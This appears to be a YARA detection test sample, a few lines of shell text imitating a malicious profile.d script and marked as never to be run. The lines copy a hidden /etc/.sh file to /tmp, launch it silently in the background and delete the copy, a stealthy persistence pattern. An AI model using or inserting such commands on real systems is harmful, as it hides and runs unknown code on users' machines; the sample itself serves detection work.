# ferret YARA test sample: /etc/profile.d/php.sh-like text from THREATS.md case 1 (never run)
return 0 2>/dev/null || exit 0
cp -f /etc/.sh /tmp/.sh >/dev/null 2>&1
/tmp/.sh >/dev/null 2>&1 &
rm -f /tmp/.sh
